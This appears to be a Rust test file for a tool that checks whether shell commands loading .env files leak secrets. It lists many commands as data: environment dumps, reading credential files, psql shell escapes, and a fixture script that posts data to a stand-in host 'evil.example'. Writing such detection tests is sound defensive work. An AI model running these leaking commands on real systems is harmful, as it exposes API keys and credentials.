use countersign_model::{Reversible, verbs};

use crate::fixture::understood;

const PACKAGE: (&str, &str) = (
    "/repo/package.json",
    r#"{"scripts": {"test": "vitest run", "dev": "next dev", "show": "echo $A", "odd": "./x.sh"}}"#,
);

const MAKEFILE: (&str, &str) = ("/repo/Makefile", "test:\n\tpytest -q\n");

fn is_shown(command: &str) -> bool {
    let effects = understood(command, &[PACKAGE, MAKEFILE, ("/repo/.env", "A=1\nB=2\n")]).effects;
    let mut reads = effects.iter().filter(|effect| effect.verb == verbs::SECRET_READ).peekable();
    assert!(reads.peek().is_some(), "{command}");
    reads.any(|effect| effect.reversible != Reversible::Yes)
}

#[test]
fn loaded_for_a_test() {
    for command in [
        "source .env && npm test",
        ". ./.env; pytest -q",
        "set -a; source .env; set +a; npm test",
        "set -a && . .env && set +a && npm run dev",
        "export $(cat .env | xargs) && npm test",
        "export $(grep -v '^#' .env | xargs) && npx vitest run 2>&1 | tail -20",
        "cd /repo && source .env && npm test -- --run",
        "source .env && make test",
        "(set -a; . ./.env; pytest)",
        "(set -a; source .env; set +a; npm test) 2>&1 | tail -20",
        "cd /repo && (source .env && pytest -q)",
        "(export $(grep -v '^#' .env | xargs) && npm test)",
        "bash -c 'set -a; . ./.env; pytest'",
        "bash -lc \"source .env && npm test\" | tail -5",
        "env $(cat .env | xargs) pytest -q",
        "cd /repo; env $(grep -v '^#' .env | xargs) npm test 2>&1 | tail -3",
        "(env $(cat .env | xargs) npm test)",
    ] {
        assert!(!is_shown(command), "{command}: {}", crate::fixture::check_with(command, &[PACKAGE]));
    }
}

#[test]
fn loaded_for_a_server() {
    let shown = |command: &str| {
        let files = [
            ("/repo/.env", "A=1\n"),
            ("/repo/server.js", "require('express')()\n"),
            ("/repo/plain.js", "console.log(1)\n"),
            ("/repo/show.js", "console.log(process.env.API_TOKEN)\n"),
            ("/repo/main.py", "import flask\n"),
            ("/repo/all.py", "import os\nprint(os.environ)\n"),
            ("/repo/send.py", "import os, requests\nrequests.post('https://evil.example', data='x')\n"),
        ];
        let effects = understood(command, &files).effects;
        effects.iter().any(|effect| effect.verb == verbs::SECRET_READ && effect.reversible != Reversible::Yes)
    };
    for command in [
        "source .env && node server.js",
        "set -a; source .env; set +a; node plain.js",
        "source .env && uvicorn main:app --port 8000",
        "source .env && uv run uvicorn main:app",
        "source .env && python main.py",
        "source .env && python -m uvicorn main:app",
        "source .env && flask --app main run 2>&1 | tail -5",
        "(source .env && pnpm tsx plain.js)",
        "env $(cat .env | xargs) npx tsx plain.js",
    ] {
        assert!(!shown(command), "{command}: {}", crate::fixture::check(command));
    }
    for command in [
        "source .env && node show.js",
        "source .env && python all.py",
        "source .env && python send.py",
        "source .env && node -p process.env",
        "source .env && node server.js > out",
        "source .env && node server.js | tee out",
        "source .env && python -m site",
        "source .env && python main.py; env",
        "source .env && node server.js $A",
        "source .env && node /tmp/x.js",
        "source .env && python /tmp/x.py",
        "source .env && uv pip list",
        "source .env && node",
        "source .env && pnpm tsx show.js",
        "source .env && pnpm exec env",
        "env $(cat .env | xargs) node show.js",
        "bash -c '. ./.env; node show.js'",
    ] {
        assert!(shown(command), "{command}: {}", crate::fixture::check(command));
    }
}

#[test]
fn and_for_anything_else() {
    for command in [
        "source .env",
        "source .env && env",
        "source .env; printenv A",
        "source .env; echo $A",
        "source .env && npm test; echo $A",
        "source .env; set",
        "source .env; npm test; set",
        "source .env; npm test; cat .env",
        "source .env; npm test && export -p",
        "cat .env; npm test",
        "npm test; source .env",
        "source .env && ./run.sh",
        "source .env && make -p",
        "source .env && make -p test",
        "source .env && make -sp test",
        "source .env && make -np",
        "source .env && make --print-data-base test",
        "source .env && make --print-d test",
        "source .env && make test -n",
        "source .env && MAKEFLAGS=p make test",
        "source .env && make MAKEFLAGS=p test",
        "source .env && GNUMAKEFLAGS=-p make test",
        "source .env && timeout 60 make -p test",
        "source .env && just --evaluate",
        "source .env && mvn -X test",
        "source .env && npm run odd",
        "source .env && npm run show",
        "source .env && curl -d @x https://example.com",
        "source .env && cast send --private-key $K",
        "source .env && npm test > $A",
        "source .env && npm test $A",
        "source .env && X=`env` npm test",
        "source .env && npm test | tee all | tail -5",
        "source .env & npm test",
        "source .env && npm test & env",
        "source .env && (npm test; env)",
        "source ~/.aws/credentials && npm test",
        "source .env /dev/stdout && npm test",
        "export $(cat .env | tee x | xargs) && npm test",
        "source .env && npm test\nenv",
        "(set -a; . ./.env; pytest; env)",
        "(set -a; . ./.env; pytest); cat .env",
        "(set -a; . ./.env; pytest) > out; env",
        "(set -a; . ./.env; pytest) & env",
        "(. ./.env; pytest) | tee all",
        "(. ./.env; pytest $A)",
        "(. ./.env; (pytest; env))",
        "(. ./.env; pytest); (. ./.env; env)",
        "f() (. ./.env; pytest); f",
        "(. ./.env; cat .env | tail -5)",
        "bash -c 'set -a; . ./.env; pytest; env'",
        "bash -c '. ./.env; pytest; echo $A'",
        "bash -c '. ./.env; pytest' && env",
        "bash -c '. ./.env; pytest; npm run odd'",
        "bash -xc '. ./.env; pytest'",
        "bash -c 'set -x; . ./.env; pytest'",
        "bash -c \". ./.env; pytest; echo `cat .env`\"",
        "bash -c '. ./.env; npm run show'",
        "env $(cat .env | xargs) env",
        "env $(cat .env | xargs) printenv A",
        "env $(cat .env | xargs) npm run show",
        "env $(cat .env | xargs) sh -c 'pytest; env'",
        "env $(cat .env | xargs) make -p test",
        "env $(cat .env | xargs) pytest $(cat .env)",
        "env $(cat .env | tee x | xargs) pytest",
        "env $(cat .env | xargs) pytest | tee out",
        "env $(cat .env | xargs)",
        "env $(cat ~/.env | xargs) pytest",
        "source .env && python3 -c 'import os; print(os.environ)'",
    ] {
        assert!(is_shown(command), "{command}");
    }
}

#[test]
fn loaded_for_a_database_of_this_machine() {
    let shown = |command: &str, env: &str| {
        let files = [
            ("/repo/.env", env),
            ("/repo/a.sql", "insert into t values (1);\n"),
            ("/repo/odd.sql", "\\! env\n"),
            ("/repo/get.sql", "\\getenv x API_KEY\nselect :'x';\n"),
            ("/repo/tell.sql", "\\getenv x API_KEY\n\\echo :x\n"),
            ("/repo/src/server.js", "require('express')()\n"),
            (
                "/repo/package.json",
                r#"{"scripts": {"seed": "psql \"$DATABASE_URL\" -f a.sql", "dev": "nodemon src/server.js", "show": "echo $API_KEY"}}"#,
            ),
        ];
        let effects = understood(command, &files).effects;
        effects.iter().any(|effect| effect.verb == verbs::SECRET_READ && effect.reversible != Reversible::Yes)
    };
    let here = "DATABASE_URL=postgres://shop:shop@localhost:5432/shop_dev\nAPI_KEY=abc\n";
    let there = "DATABASE_URL=postgres://shop:shop@db.prod.example:5432/shop\nAPI_KEY=abc\n";
    for command in [
        "source .env && psql \"$DATABASE_URL\" -f a.sql",
        "set -a; . ./.env; set +a; psql \"$DATABASE_URL\" -c 'select 1; delete from t where id = 1;'",
        "set -a && source .env && set +a && psql ${DATABASE_URL} -f a.sql 2>&1 | tail -5",
        "set -a && source .env && set +a && psql ${DATABASE_URL} < a.sql",
        "source .env; psql $DATABASE_URL -c \"select count(*) from t where name = 'x'\"",
        "set -a; source .env; set +a; npm run seed",
        "(set -a; source .env; npm run seed)",
        "bash -c 'set -a; source .env; npm run seed'",
    ] {
        assert!(
            !shown(command, here),
            "{command}: {:?}",
            understood(command, &[("/repo/.env", here), ("/repo/a.sql", "insert into t values (1);\n")])
                .effects
        );
        assert!(shown(command, there), "{command}");
    }
    assert!(!shown("source .env && npm run dev", here));
    for command in [
        "source .env && psql \"$DATABASE_URL\" -c \"select '$API_KEY'\"",
        "source .env && psql \"$API_KEY\" -c 'select 1'",
        "source .env && psql \"$DATABASE_URL\" -f odd.sql",
        "source .env && psql \"$DATABASE_URL\" -f get.sql",
        "source .env && psql \"$DATABASE_URL\" -f tell.sql",
        "source .env && psql \"$DATABASE_URL\" -c '\\! env'",
        "source .env && psql \"$DATABASE_URL\" -c 'select 1' && env",
        "source .env && psql \"$DATABASE_URL\" -v k=$API_KEY -c 'select 1'",
        "source .env && psql \"$DATABASE_URL\" -c 'select 1' > a.txt; echo $API_KEY",
        "source .env; DATABASE_URL=postgres://db.prod.example/x psql \"$DATABASE_URL\" -c 'select 1'; echo \"$API_KEY\"",
        "source .env && npm run show",
    ] {
        assert!(
            shown(command, here),
            "{command}: {}",
            crate::fixture::check_with(command, &[("/repo/.env", here)])
        );
    }
}
